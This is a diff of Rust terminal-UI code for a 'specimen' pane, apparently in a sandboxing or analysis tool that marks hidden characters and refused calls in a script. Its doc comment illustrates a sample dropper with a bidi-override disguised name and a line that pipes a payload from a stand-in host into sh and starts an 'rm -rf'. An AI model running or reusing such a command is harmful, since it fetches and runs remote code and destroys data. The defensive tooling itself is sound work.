@@ -4,7 +4,7 @@
 //! ╔ 1 Specimen dropper.py • edited ═════════════ python · 1 KiB ╗
 //! ║  1 import os                                                ║
 //! ║▲ 2 name = 'user<U+202E>nimda'                               ║
-//! ║  3 os.system('curl http://198.51.100.7/payload | sh; rm -rf›║
+//! ║● 3 os.system('curl http://198.51.100.7/payload | sh; rm -rf›║
 //! ╚ EDIT  esc to leave ════════ Ln 3, Col 1 · 1 hidden character ╝
 //! ```
 
@@ -14,10 +14,13 @@ mod title;
 #[cfg(test)]
 mod tests;
 
+use std::collections::BTreeSet;
+
 use ratatui::Frame;
 use ratatui::buffer::Buffer;
 use ratatui::layout::Rect;
 
+use super::denials::lines;
 use super::frame::{self, Title};
 use crate::tui::cells::{clip, width};
 use crate::tui::command::Command;
@@ -61,18 +64,55 @@ struct Row {
 enum Sign {
     /// It has hidden characters.
     Hidden,
+    /// A call from it was refused.
+    Denied,
+    /// The selected denial came from it.
+    Selected,
 }
 
 impl Sign {
     const fn symbol(self) -> &'static str {
         match self {
             Self::Hidden => "▲",
+            Self::Denied => "●",
+            Self::Selected => "▶",
         }
     }
 
     const fn role(self) -> Role {
         match self {
             Self::Hidden => Role::Mark,
+            Self::Denied | Self::Selected => Role::Bad,
+        }
+    }
+}
+
+/// The lines (from 1) from which calls were refused.
+#[derive(Clone, Debug, Default)]
+struct Refused {
+    lines: BTreeSet<usize>,
+    /// The one of the selected denial.
+    selected: Option<usize>,
+}
+
+impl Refused {
+    fn of(state: &State) -> Self {
+        let Some(run) = state.runs.shown() else { return Self::default() };
+        let selected = state.denials.selected_row(run);
+        Self {
+            lines: lines::denied(run, &state.editor),
+            selected: selected.and_then(|row| lines::of_row(run, &state.editor, row).ok()),
+        }
+    }
+
+    /// A refusal says more than a hidden character, which is marked in its line too.
+    fn sign(&self, editor: &Editor, line: usize) -> Option<Sign> {
+        if self.selected == Some(line + 1) {
+            Some(Sign::Selected)
+        } else if self.lines.contains(&(line + 1)) {
+            Some(Sign::Denied)
+        } else {
+            editor.findings(line).next().map(|_| Sign::Hidden)
         }
     }
 }
@@ -80,18 +120,26 @@ impl Sign {
 /// Makes the view of a pane with that inner area.
 pub fn view(state: &State, inner: Rect) -> View {
     let focused = state.focus == Pane::Specimen;
-    view_of(&state.editor, focused, state.editing, inner, |command| state.keymap.shown(command))
+    let refused = Refused::of(state);
+    view_of(&state.editor, &refused, focused, state.editing, inner, |command| state.keymap.shown(command))
 }
 
-fn view_of(editor: &Editor, focused: bool, editing: bool, inner: Rect, key: impl Fn(Command) -> String) -> View {
+fn view_of(
+    editor: &Editor,
+    refused: &Refused,
+    focused: bool,
+    editing: bool,
+    inner: Rect,
+    key: impl Fn(Command) -> String,
+) -> View {
     View {
         focused,
-        title: title::of(editor, editing, usize::from(inner.width)),
+        title: title::of(editor, refused.lines.len(), editing, usize::from(inner.width)),
         editing: editing.then(|| leave(&key(Command::Back))),
         body: if editor.is_empty() && !editing {
             Body::Empty(invitation(&key(Command::Edit), &key(Command::Open)))
         } else {
-            body(editor, editing, inner)
+            body(editor, refused, editing, inner)
         },
     }
 }
@@ -100,7 +148,7 @@ fn leave(key: &str) -> String {
     if key.is_empty() { String::new() } else { format!("{key} to leave") }
 }
 
-fn body(editor: &Editor, editing: bool, inner: Rect) -> Body {
+fn body(editor: &Editor, refused: &Refused, editing: bool, inner: Rect) -> Body {
     let window = editor.window(inner.as_size());
     let gutter = editor.gutter(inner.width);
     let cells = window.left..window.left + usize::from(inner.width).saturating_sub(gutter);
@@ -111,7 +159,7 @@ fn body(editor: &Editor, editing: bool, inner: Rect) -> Body {
         let cursor = (current && editing).then_some(byte);
         Row {
             number: line + 1,
-            sign: editor.findings(line).next().map(|_| Sign::Hidden),
+            sign: refused.sign(editor, line),
             current,
             pieces: Line::pieces_of(editor, line, cursor, cells.clone()),
         }
